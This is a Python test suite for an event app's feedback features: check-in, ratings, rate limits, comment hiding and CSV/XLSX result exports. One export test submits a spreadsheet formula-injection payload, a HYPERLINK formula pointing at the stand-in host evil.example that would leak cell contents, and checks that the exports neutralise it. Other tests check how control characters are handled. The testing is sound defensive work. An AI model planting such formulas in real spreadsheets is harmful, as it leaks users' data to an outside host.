"""Feedback through HTTP on the configured engine."""

import datetime as dt

from tests.conftest import text_of
from tests.events.checkin.test_checkin_http import open_event


async def event_with_talk(organiser, started=True, **changes):
    start = dt.datetime.now(dt.timezone(dt.timedelta(hours=8))) - dt.timedelta(minutes=10 if started else -60)
    event = await open_event(
        organiser, date=start.strftime("%Y-%m-%d"), start_time=start.strftime("%H:%M"), end_time="23:59", **changes
    )
    branch = (
        await organiser.api("POST", "/api/branches/", {"name": "党建工作科党支部", "unit": "芙蓉区税务局"})
    ).json()
    method = (await organiser.api("POST", "/api/methods/", {"title": "37℃学习法", "branch_id": branch["id"]})).json()
    agenda = (
        await organiser.api(
            "POST",
            f"/api/events/{event['id']}/agenda/items",
            {"kind": "presentation", "duration": 30, "method_id": method["id"]},
        )
    ).json()
    return event, agenda["items"][0]["id"]


async def rows(organiser, event_id):
    from events.tables import Feedback

    return await organiser.run(
        lambda: Feedback.select(Feedback.rating, Feedback.comment).where(Feedback.event == event_id)
    )


async def test_checked_in_phone_rates_and_changes_its_rating(organiser):
    event, item = await event_with_talk(organiser)
    await organiser.form("/e/shuixin-2026/checkin", {"name": "谭玲"})
    page = await organiser.get(f"/e/shuixin-2026/feedback/{item}")
    assert page.status_code == 200 and "37℃学习法" in page.text
    saved = await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "4", "comment": "很实用"})
    assert saved.status_code == 200 and "已保存" in text_of(saved.text)
    await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "5", "comment": "非常实用"})
    assert await rows(organiser, event["id"]) == [{"rating": 5, "comment": "非常实用"}]
    results = text_of((await organiser.get(f"/organiser/events/{event['id']}/feedback/")).text)
    assert "5.00" in results and "非常实用" in results and "1人评分" in results


async def test_bad_ratings_and_long_comments_store_nothing(organiser):
    event, item = await event_with_talk(organiser)
    await organiser.form("/e/shuixin-2026/checkin", {"name": "谭玲"})
    for data in ({"rating": "0"}, {"rating": "6"}, {"rating": "five"}, {}, {"rating": "3", "comment": "长" * 10_000}):
        response = await organiser.form(f"/e/shuixin-2026/feedback/{item}", data)
        assert response.status_code == 400, data
    assert await rows(organiser, event["id"]) == []


async def test_not_checked_in_phone_cannot_rate_unless_anonymous_allowed(organiser):
    event, item = await event_with_talk(organiser)
    organiser.cookies.set("showcase_device", "forged-device-id-000000000")
    response = await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "5"})
    assert response.status_code == 403 and "请先签到" in text_of(response.text)
    await organiser.form(f"/organiser/events/{event['id']}/feedback/settings", {"anonymous": "on"})
    assert (await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "5"})).status_code == 200
    assert len(await rows(organiser, event["id"])) == 1


async def test_feedback_before_start_and_after_close_is_refused(organiser):
    event, item = await event_with_talk(organiser, started=False)
    await organiser.form("/e/shuixin-2026/checkin", {"name": "谭玲"})
    early = await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "5"})
    assert early.status_code == 403 and "开始后" in text_of(early.text)
    past = (dt.datetime.now(dt.timezone(dt.timedelta(hours=8))) - dt.timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M")
    await organiser.form(f"/organiser/events/{event['id']}/feedback/settings", {"closes": past, "from_start": "on"})
    late = await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "5"})
    assert late.status_code == 403 and "截止" in text_of(late.text)
    assert await rows(organiser, event["id"]) == []


async def test_feedback_for_another_events_presentation_is_404(organiser):
    _, item = await event_with_talk(organiser)
    other, _ = await event_with_talk(organiser, slug="other-day")
    assert (await organiser.form(f"/e/other-day/feedback/{item}", {"rating": "5"})).status_code == 404


async def test_organiser_hides_an_abusive_comment_it_stays_stored(organiser):
    event, item = await event_with_talk(organiser)
    await organiser.form("/e/shuixin-2026/checkin", {"name": "谭玲"})
    await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "1", "comment": "不当言论"})
    from events.tables import Feedback

    feedback_id = (await organiser.run(lambda: Feedback.select(Feedback.id).first()))["id"]
    await organiser.form(f"/organiser/events/{event['id']}/feedback/{feedback_id}/hidden", {"hidden": "yes"})
    stored = await organiser.run(lambda: Feedback.select(Feedback.hidden, Feedback.comment).first())
    assert stored == {"hidden": True, "comment": "不当言论"}


async def test_too_many_posts_from_one_phone_get_429_with_a_message(organiser):
    event, item = await event_with_talk(organiser)
    await organiser.form("/e/shuixin-2026/checkin", {"name": "谭玲"})  # 1 post
    statuses = []
    for n in range(35):
        response = await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": str(n % 5 + 1)})
        statuses.append(response.status_code)
    assert statuses.count(429) >= 5 and 500 not in statuses
    limited = await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "1"})
    assert limited.status_code == 429 and "请求过于频繁" in text_of(limited.text)
    assert len(await rows(organiser, event["id"])) == 1  # still one row, never more


async def test_audience_choice_and_overall_rating_one_per_phone(organiser):
    event, item = await event_with_talk(organiser)
    await organiser.form("/e/shuixin-2026/checkin", {"name": "谭玲"})
    page = await organiser.get("/e/shuixin-2026/feedback")
    assert "观众之选" in text_of(page.text)
    await organiser.form(
        "/e/shuixin-2026/feedback/overall", {"choice": str(item), "rating": "4", "comment": "收获很大"}
    )
    await organiser.form("/e/shuixin-2026/feedback/overall", {"choice": str(item), "rating": "5"})  # changes, not adds
    from events.tables import EventVote

    votes = await organiser.run(lambda: EventVote.select(EventVote.rating, EventVote.choice))
    assert votes == [{"rating": 5, "choice": item}]
    results = text_of((await organiser.get(f"/organiser/events/{event['id']}/feedback/")).text)
    assert "观众之选 37℃学习法" in results


async def test_vote_for_a_foreign_presentation_or_bad_rating_is_400(organiser):
    event, item = await event_with_talk(organiser)
    other, foreign = await event_with_talk(organiser, slug="other-day")
    await organiser.form("/e/shuixin-2026/checkin", {"name": "谭玲"})
    for data in ({"choice": str(foreign)}, {"choice": "abc"}, {"rating": "9"}, {"comment": "长" * 600}):
        assert (await organiser.form("/e/shuixin-2026/feedback/overall", data)).status_code == 400, data
    from events.tables import EventVote

    assert await organiser.run(lambda: EventVote.count()) == 0


async def test_results_export_keeps_chinese_and_marks_hidden(organiser):
    import io

    from openpyxl import load_workbook

    event, item = await event_with_talk(organiser)
    await organiser.form("/e/shuixin-2026/checkin", {"name": "谭玲"})
    await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "4", "comment": "很实用"})
    csv_body = (await organiser.get(f"/organiser/events/{event['id']}/feedback/results.csv")).content
    assert csv_body.startswith(b"\xef\xbb\xbf") and "很实用" in csv_body.decode("utf-8-sig")
    xlsx = await organiser.get(f"/organiser/events/{event['id']}/feedback/results.xlsx")
    rows = list(load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(values_only=True))
    assert rows[0][:4] == ("工作法", "单位", "党支部", "评分") and rows[1][0] == "37℃学习法" and rows[1][3] == 4


async def test_results_export_has_no_formula_and_survives_a_control_character(organiser):
    from events.tables import Feedback
    from tests.sheets import csv_rows, formulas_in_csv, formulas_in_xlsx, xlsx_cells

    event, item = await event_with_talk(organiser)
    await organiser.form("/e/shuixin-2026/checkin", {"name": "谭玲"})
    attack = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    assert (
        await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "4", "comment": attack})
    ).status_code == 200
    base = f"/organiser/events/{event['id']}/feedback/results"
    sheet = (await organiser.get(f"{base}.xlsx")).content
    assert formulas_in_xlsx(sheet) == [] and xlsx_cells(sheet)[1][4] == ("'" + attack, "s")
    assert formulas_in_csv((await organiser.get(f"{base}.csv")).content) == []
    # A comment stored before text was cleaned on the way in: the exports still answer.
    await organiser.run(
        lambda: Feedback.update({Feedback.comment: "@SUM(1,2)\x01\x0b好"}).where(Feedback.event == event["id"])
    )
    xlsx, csv = await organiser.get(f"{base}.xlsx"), await organiser.get(f"{base}.csv")
    assert xlsx.status_code == 200 and xlsx_cells(xlsx.content)[1][4] == ("'@SUM(1,2)好", "s")
    assert csv.status_code == 200 and csv_rows(csv.content)[1][4] == "'@SUM(1,2)好"


async def test_comment_control_characters_are_removed_and_nul_refused(organiser):
    event, item = await event_with_talk(organiser)
    await organiser.form("/e/shuixin-2026/checkin", {"name": "谭玲"})
    saved = await organiser.form(
        f"/e/shuixin-2026/feedback/{item}", {"rating": "4", "comment": "很\x01实用\u202e\x1b\n第二行"}
    )
    assert saved.status_code == 200 and await rows(organiser, event["id"]) == [
        {"rating": 4, "comment": "很实用\n第二行"}
    ]
    refused = await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "5", "comment": "很\x00实用"})
    assert refused.status_code == 400 and "无法保存" in text_of(refused.text)
    assert await rows(organiser, event["id"]) == [{"rating": 4, "comment": "很实用\n第二行"}]
    overall = await organiser.form("/e/shuixin-2026/feedback/overall", {"rating": "5", "comment": "整体\x07不错\u2066"})
    from events.tables import EventVote

    assert overall.status_code == 200 and await organiser.run(lambda: EventVote.select(EventVote.comment)) == [
        {"comment": "整体不错"}
    ]
